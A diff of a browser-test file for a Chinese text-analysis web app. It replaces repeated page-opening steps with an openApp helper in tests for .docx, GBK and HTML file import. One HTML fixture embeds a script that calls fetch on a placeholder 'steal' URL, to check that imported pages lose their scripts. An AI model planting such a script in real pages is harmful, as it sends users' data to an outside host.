@@ -7,7 +7,7 @@ import { deflateRawSync, crc32 } from 'node:zlib';
 import { writeFile, mkdtemp, rm } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { useSite, openPage, waitForState, paste } from './harness.mjs';
+import { useSite, waitForState, paste, openApp } from './harness.mjs';
 
 const site = useSite();
 
@@ -105,9 +105,7 @@ async function keywordShown(page, term) {
 }
 
 test('a .docx opened with the button replaces the text, is analysed, and can be undone', async () => {
-  const { context, page, log } = await openPage(site.browser, site.server.origin);
-  await page.goto(site.server.origin + '/');
-  await waitForState(page, 'ready');
+  const { context, page, log } = await openApp(site);
   await paste(page, '原来的文字：读书会在图书馆举行。');
   await waitForState(page, 'done');
   await openWithButton(page, { name: '花卉博览会.docx', mimeType: 'application/octet-stream', buffer: docx(ARTICLE) });
@@ -123,9 +121,7 @@ test('a .docx opened with the button replaces the text, is analysed, and can be 
 });
 
 test('a GBK text file dropped on the text area is decoded, and the reader is told how', async () => {
-  const { context, page, log } = await openPage(site.browser, site.server.origin);
-  await page.goto(site.server.origin + '/');
-  await waitForState(page, 'ready');
+  const { context, page, log } = await openApp(site);
   const text = ARTICLE.join('\r\n');
   const bytes = [...gbk(text)];
   await page.getByTestId('input').evaluate((area, bytes) => {
@@ -143,9 +139,7 @@ test('a GBK text file dropped on the text area is decoded, and the reader is tol
 });
 
 test('an HTML page is read as its text, without scripts or styles', async () => {
-  const { context, page, log } = await openPage(site.browser, site.server.origin);
-  await page.goto(site.server.origin + '/');
-  await waitForState(page, 'ready');
+  const { context, page, log } = await openApp(site);
   const html = `<!doctype html><html><head><title>花卉博览会</title><style>p{color:red}</style>
     <script>fetch("https://example.invalid/steal")</script></head><body>
     <p>${ARTICLE[0]}</p><p>${ARTICLE[1]}&nbsp;&ldquo;鲜花&rdquo;</p><!-- 注释不算 --></body></html>`;
@@ -160,9 +154,7 @@ test('an HTML page is read as its text, without scripts or styles', async () => 
 });
 
 test('files that cannot be read are refused with a reason, and the text stays', async () => {
-  const { context, page, log } = await openPage(site.browser, site.server.origin);
-  await page.goto(site.server.origin + '/');
-  await waitForState(page, 'ready');
+  const { context, page, log } = await openApp(site);
   const mine = '我的草稿，不能丢。';
   await paste(page, mine);
   const dir = await mkdtemp(join(tmpdir(), 'wenxi-'));
@@ -196,9 +188,7 @@ test('files that cannot be read are refused with a reason, and the text stays', 
 });
 
 test('the sample article is offered while the text area is empty, and analysed', async () => {
-  const { context, page, log } = await openPage(site.browser, site.server.origin);
-  await page.goto(site.server.origin + '/');
-  await waitForState(page, 'ready');
+  const { context, page, log } = await openApp(site);
   await page.getByTestId('load-sample').click();
   await waitForState(page, 'done');
   const text = await page.getByTestId('input').inputValue();
